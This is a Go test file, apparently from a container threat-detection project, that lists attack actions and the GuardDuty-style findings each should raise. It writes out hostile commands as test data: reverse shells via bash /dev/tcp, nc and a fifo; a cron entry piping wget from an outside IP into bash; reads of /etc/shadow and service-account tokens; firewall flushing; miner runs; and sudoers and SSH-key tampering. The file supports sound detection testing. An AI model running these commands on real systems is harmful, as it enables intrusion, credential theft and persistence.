package acts

import (
	"testing"

	"github.com/vedette-project/vedette/internal/testbed"
)

// act is something that is done in a container of its own.
type act struct {
	name string // of the act and of its pod
	in   testbed.ContainerOptions
	// addresses are more addresses of the container's own loopback interface.
	addresses []string
	plain     bool // the container is of no pod
	late      bool // done once the container is no longer being made ready
	// steps are run in the container one after the other, as an operator's or an
	// attacker's `kubectl exec` does.
	steps [][]string
	want  []string // types of findings
}

func sh(script string) []string { return []string{"sh", "-c", script} }

func do(args ...string) []string { return append([]string{"act"}, args...) }

// as is what is done in a container by its first process.
func first(args ...string) testbed.ContainerOptions { return testbed.ContainerOptions{Args: args} }

var privileged = testbed.ContainerOptions{Privileged: true}

const (
	reverseShell  = "Execution:Runtime/ReverseShell"
	execution     = "Execution:Runtime/SuspiciousCommand"
	evasion       = "DefenseEvasion:Runtime/SuspiciousCommand"
	persistence   = "Persistence:Runtime/SuspiciousCommand"
	escalation    = "PrivilegeEscalation:Runtime/SuspiciousCommand"
	discovery     = "Discovery:Runtime/SuspiciousCommand"
	tool          = "Execution:Runtime/SuspiciousTool"
	fileless      = "DefenseEvasion:Runtime/FilelessExecution"
	miner         = "Impact:Runtime/CryptoMinerExecuted"
	newBinary     = "Execution:Runtime/NewBinaryExecuted"
	hostDirectory = "PrivilegeEscalation:Runtime/ContainerMountsHostDirectory"
	ptrace        = "DefenseEvasion:Runtime/ProcessInjection.Ptrace"
	toRoot        = "PrivilegeEscalation:Runtime/ElevationToRoot"
	runc          = "PrivilegeEscalation:Runtime/RuncContainerEscape"
)

// server is a first process that takes calls and hangs up after a moment.
func server(address, line string) testbed.ContainerOptions {
	return first("act", "listen", address, line)
}

// acts are what attackers do, and what the testers of GuardDuty do.
func acts(t testing.TB, w *world) []act {
	docker := socket(t)
	node := nodeFiles(t)
	runtime := w.runtimeFolder()
	return []act{
		{name: "mounts-etc", steps: [][]string{do("mount", "/etc", "/tmp/etc")}, want: []string{hostDirectory}},
		{name: "mounts-its-host-path", in: testbed.ContainerOptions{Privileged: true, Binds: []string{"/etc:/host-etc:ro"}},
			steps: [][]string{do("mount", "/host-etc", "/tmp/etc")}, want: []string{hostDirectory}},
		{name: "docker-socket", in: testbed.ContainerOptions{Binds: []string{docker + ":/var/run/docker.sock"}},
			steps: [][]string{do("unix", "/var/run/docker.sock")}, want: []string{"PrivilegeEscalation:Runtime/DockerSocketAccessed"}},
		{name: "overwrites-runc", in: testbed.ContainerOptions{Binds: []string{node + ":/host"}},
			steps: [][]string{do("open", "/host/runc")}, want: []string{runc}},
		{name: "takes-runc-as-it-enters", in: testbed.ContainerOptions{Privileged: true, Binds: []string{runtime + ":/host"}},
			steps: [][]string{do("take-runtime", "/host/runc")}, want: []string{runc}},
		{name: "stands-on-the-node", in: testbed.ContainerOptions{Privileged: true, Binds: []string{node + ":/host"}},
			steps: [][]string{do("leak", "/host")}, want: []string{runc}},
		{name: "release-agent", in: testbed.ContainerOptions{Privileged: true, Binds: []string{node + ":/tmp/cgroup"}},
			steps: [][]string{do("open", "/tmp/cgroup/release_agent")}, want: []string{"PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified"}},
		{name: "nsenter", in: privileged, steps: [][]string{sh("nsenter -t 1 -m -u -n -i sh -c true")}, want: []string{escalation}},

		{name: "ptrace-reads", steps: [][]string{do("trace")}, want: []string{ptrace}},
		{name: "ptrace-writes", steps: [][]string{do("poke")}, want: []string{ptrace}},
		{name: "writes-memory", steps: [][]string{do("vmwrite")}, want: []string{"DefenseEvasion:Runtime/ProcessInjection.VirtualMemoryWrite"}},
		{name: "writes-proc-mem", steps: [][]string{do("procmem")}, want: []string{"DefenseEvasion:Runtime/ProcessInjection.Proc"}},
		{name: "keeps-debuggers-away", steps: [][]string{sh("act traceme; true")}, want: []string{"DefenseEvasion:Runtime/PtraceAntiDebugging"}},
		{name: "memfd", steps: [][]string{do("memfd")}, want: []string{fileless}},
		{name: "deleted", steps: [][]string{do("deleted")}, want: []string{fileless, newBinary}},
		{name: "userfaultfd", in: privileged, steps: [][]string{do("userfaultfd")}, want: []string{"PrivilegeEscalation:Runtime/UserfaultfdUsage"}},
		{name: "takes-root-back", in: privileged, steps: [][]string{do("become-root")}, want: []string{toRoot}},
		{name: "setuid-copy", in: testbed.ContainerOptions{NewPrivileges: true},
			steps: [][]string{sh("cp /usr/bin/sync /usr/bin/rootsync; chmod 4755 /usr/bin/rootsync; act as 1000 /usr/bin/rootsync")}, want: []string{toRoot, newBinary}},

		{name: "shell-by-dup", in: server("127.0.0.1:4444", "exit"), steps: [][]string{do("reverse", "127.0.0.1:4444")}, want: []string{reverseShell}},
		{name: "shell-by-bash", in: server("127.0.0.1:1337", "exit"),
			steps: [][]string{{"bash", "-c", "cp /bin/bash /tmp/b; exec /tmp/b -i >& /dev/tcp/127.0.0.1/1337 0>&1"}}, want: []string{reverseShell, execution, newBinary}},
		{name: "shell-by-nc", in: server("127.0.0.1:4444", "exit"), steps: [][]string{{"nc", "127.0.0.1", "4444", "-e", "/bin/sh"}}, want: []string{reverseShell, execution}},
		{name: "shell-by-fifo", in: server("127.0.0.1:4444", "exit"),
			steps: [][]string{sh("mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 127.0.0.1 4444 > /tmp/f")}, want: []string{reverseShell, execution}},
		{name: "web-shell", in: first("act", "web", "127.0.0.1:8080"), steps: [][]string{do("get", "127.0.0.1:8080/shell?id")},
			want: []string{"Execution:Runtime/SuspiciousShellCreated"}},

		{name: "xmrig", steps: [][]string{{"xmrig", "-o", "stratum+tcp://pool.example:3333", "-u", "wallet"}}, want: []string{miner}},
		{name: "miner-by-another-name", steps: [][]string{{"kthread-helper", "-o", "stratum+ssl://pool.example:443", "-u", "wallet", "-k"}}, want: []string{miner}},
		{name: "stratum", in: server("127.0.0.1:3333", `{"id":1}`), steps: [][]string{do("stratum", "127.0.0.1:3333")}, want: []string{miner}},
		{name: "listed-file", late: true, steps: [][]string{{"listed"}}, want: []string{"Execution:Runtime/MaliciousFileExecuted"}},
		{name: "own-listed-file", late: true, steps: [][]string{{"listed-own"}}, want: []string{"Execution:Runtime/MaliciousFileExecuted.Custom"}},
		{name: "listed-miner", late: true, steps: [][]string{{"listed-miner"}}, want: []string{miner}},

		{name: "calls-listed", in: server("0.0.0.0:443", "hello"), addresses: []string{"198.51.100.243", "198.51.100.244", "198.51.100.246", "198.51.100.247", "198.51.100.248", "198.51.100.249"},
			steps: [][]string{
				do("connect", "198.51.100.243:443"), do("connect", "198.51.100.244:443"), do("connect", "198.51.100.246:443"),
				do("connect", "198.51.100.247:443"), do("connect", "198.51.100.248:443"), do("connect", "198.51.100.249:443"),
			},
			want: []string{
				"Backdoor:Runtime/C&CActivity.B", "CryptoCurrency:Runtime/BitcoinTool.B", "UnauthorizedAccess:Runtime/TorClient",
				"UnauthorizedAccess:Runtime/TorRelay", "Trojan:Runtime/BlackholeTraffic", "Trojan:Runtime/DropPoint",
			}},
		{name: "asks-listed", in: first("act", "resolver"), steps: [][]string{
			do("ask", "c2.guarddutyc2activityb.com", "crypto.guarddutyc2activityb.com", "abused-rep.guarddutyc2activityb.com", "crypto-rep.guarddutyc2activityb.com",
				"malicious-rep.guarddutyc2activityb.com", "suspicious-rep.guarddutyc2activityb.com", "guarddutydroppointactivity.com",
				"guarddutyblackholeactivity.com", "guarddutyphishingactivity.com", "guarddutydrivebyactivity.com", "guarddutydgaactivity.com"),
		}, want: []string{
			"Backdoor:Runtime/C&CActivity.B!DNS", "CryptoCurrency:Runtime/BitcoinTool.B!DNS", "Impact:Runtime/AbusedDomainRequest.Reputation",
			"Impact:Runtime/BitcoinDomainRequest.Reputation", "Impact:Runtime/MaliciousDomainRequest.Reputation", "Impact:Runtime/SuspiciousDomainRequest.Reputation",
			"Trojan:Runtime/DropPoint!DNS", "Trojan:Runtime/BlackholeTraffic!DNS", "Trojan:Runtime/PhishingDomainRequest!DNS",
			"Trojan:Runtime/DriveBySourceTraffic!DNS", "Trojan:Runtime/DGADomainRequest.C!DNS",
		}},
		{name: "asks-for-a-pool", in: first("act", "resolver"), steps: [][]string{{"nslookup", "-type=a", "us-east.equihash-hub.miningpoolhub.com", "127.0.0.1"}},
			want: []string{"CryptoCurrency:Runtime/BitcoinTool.B!DNS"}},
		{name: "rebinds", in: first("act", "resolver"), steps: [][]string{do("ask", "rebind.attacker.example")}, want: []string{"UnauthorizedAccess:Runtime/MetadataDNSRebind"}},

		{name: "iptables", steps: [][]string{sh("iptables -F")}, want: []string{evasion}},
		{name: "cron", steps: [][]string{sh("mkdir -p /etc/cron.d; echo '* * * * * root wget -q -O- http://203.0.113.9/x|bash' > /etc/cron.d/apache")}, want: []string{persistence}},
		{name: "encoded", steps: [][]string{sh("echo dHJ1ZQo= | base64 -d | sh")}, want: []string{execution}},
		{name: "looks-around", steps: [][]string{sh("id; uname -a; cat /etc/shadow; ps; ip addr; mount; env; cat /var/run/secrets/kubernetes.io/serviceaccount/token; find / -xdev -perm -4000")}, want: []string{discovery}},
		{name: "masscan", steps: [][]string{{"masscan", "10.0.0.0/8", "-p80"}}, want: []string{tool}},
		{name: "files", steps: [][]string{
			{"linpeas"},
			sh("mkdir -p /root/.ssh; touch /root/.bash_history"),
			do("write", "/root/.ssh/authorized_keys"), do("write", "/etc/sudoers"), {"rm", "/root/.bash_history"},
		}, want: []string{tool, evasion, "Persistence:Runtime/SensitiveFileModified", "PrivilegeEscalation:Runtime/SensitiveFileModified", "DefenseEvasion:Runtime/SensitiveFileModified"}},

		{name: "web-script", steps: [][]string{{"linpeas"}, sh("mkdir -p /var/www/html/uploads"), do("write", "/var/www/html/uploads/image.php")},
			want: []string{tool, "Persistence:Runtime/SensitiveFileModified"}},
		{name: "python-start", steps: [][]string{{"linpeas"}, sh("mkdir -p /usr/lib/python3.12/site-packages; act write /tmp/x; mv /tmp/x /usr/lib/python3.12/site-packages/zz-init.pth")},
			want: []string{tool, "Persistence:Runtime/SensitiveFileModified"}},

		{name: "package-in-a-container", late: true, steps: [][]string{{"/usr/bin/dpkg", "--unpack", "/usr/bin/sync", "/usr/bin/c_rehash"}, sh("/usr/bin/c_rehash; true")}, want: []string{newBinary}},
		{name: "copied-program", late: true, plain: true, steps: [][]string{sh("cp /usr/bin/sync /usr/local-sync; /usr/local-sync; true")}, want: []string{newBinary}},
		{name: "preloaded-library", late: true, steps: [][]string{sh("cp $(ls /lib/*/libtinfo.so.6 /lib/libtinfo.so.6 2>/dev/null | head -n 1) /tmp/libx.so; LD_PRELOAD=/tmp/libx.so bash -c true")},
			want: []string{"Execution:Runtime/NewLibraryLoaded", evasion}},
	}
}
